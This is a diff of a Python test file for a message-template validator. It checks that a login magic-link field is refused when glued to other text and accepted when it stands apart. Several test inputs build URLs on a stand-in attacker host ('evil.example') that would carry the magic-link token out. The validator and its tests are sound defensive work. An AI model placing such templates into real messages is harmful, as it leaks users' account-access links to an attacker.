@@ -68,10 +68,51 @@ def test_the_fields_are_those_of_the_contract() -> None:
         ('{% raw %}{{ contact.name }}{% endraw %}', MergeFault.BROKEN, '{{', 1),
         ('https://evil.example/?{{ portal.magic_link }}', MergeFault.GLUED, 'portal.magic_link', 1),
         ('{{ portal.magic_link }}.evil.example', MergeFault.GLUED, 'portal.magic_link', 1),
+        ('a\nhttps://evil.example/?({{ portal.magic_link }})', MergeFault.GLUED, 'portal.magic_link', 2),
+        (
+            'https://evil.example/?{% if message %}{{ portal.magic_link }}{% endif %}',
+            MergeFault.GLUED,
+            'portal.magic_link',
+            1,
+        ),
+        (
+            '{% if message %}https://evil.example/?{% endif %}\t\n{{ portal.magic_link }} or\n'
+            '{% if message %} {% else %}x{% endif %}{{ portal.magic_link }}',
+            MergeFault.GLUED,
+            'portal.magic_link',
+            3,
+        ),
+        ('x/?{{ message }}{{ portal.magic_link }}', MergeFault.GLUED, 'portal.magic_link', 1),
+        ('x/? {{- portal.magic_link }}', MergeFault.GLUED, 'portal.magic_link', 1),
+        ('{{ portal.magic_link }}{% if message %}.evil.example{% endif %}', MergeFault.GLUED, 'portal.magic_link', 1),
+        ('x **/?**{{ portal.magic_link }}', MergeFault.GLUED, 'portal.magic_link', 1),
     ],
 )
 def test_what_cannot_be_is_refused_with_name_and_line(source: str, fault: MergeFault, name: str, line: int) -> None:
     assert refused(source) == (fault, name, line)
+
+
+@pytest.mark.parametrize(
+    'source',
+    [
+        '{{ portal.magic_link }}',
+        'Come: {{ portal.magic_link }}.',
+        'in ({{ portal.magic_link }}).',
+        'a\n{{ portal.magic_link }}\nb',
+        '{{ portal.magic_link }}!',
+        '**{{ portal.magic_link }}**',
+        '{% if message %}\n{{ message }}\n{% endif %}\n{{ portal.magic_link }}',
+        '{% if message %}Now {{ portal.magic_link }}{% else %}{{ portal.magic_link }}{% endif %} and',
+    ],
+)
+def test_a_link_that_stands_apart_is_taken(source: str) -> None:
+    assert has_field(read_words(source, KIND, 'body'), 'portal.magic_link')
+
+
+def test_many_conditions_are_read_in_a_moment() -> None:
+    """What may stand beside a link is not counted out for each way through them."""
+    many = ''.join(f'{{% if message %}}{chr(200 + number)}{{% endif %}}' for number in range(350))
+    assert refused(f'{many}{{{{ portal.magic_link }}}}')[0] is MergeFault.GLUED
 
 
 def test_a_subject_holds_no_link_and_no_code() -> None:
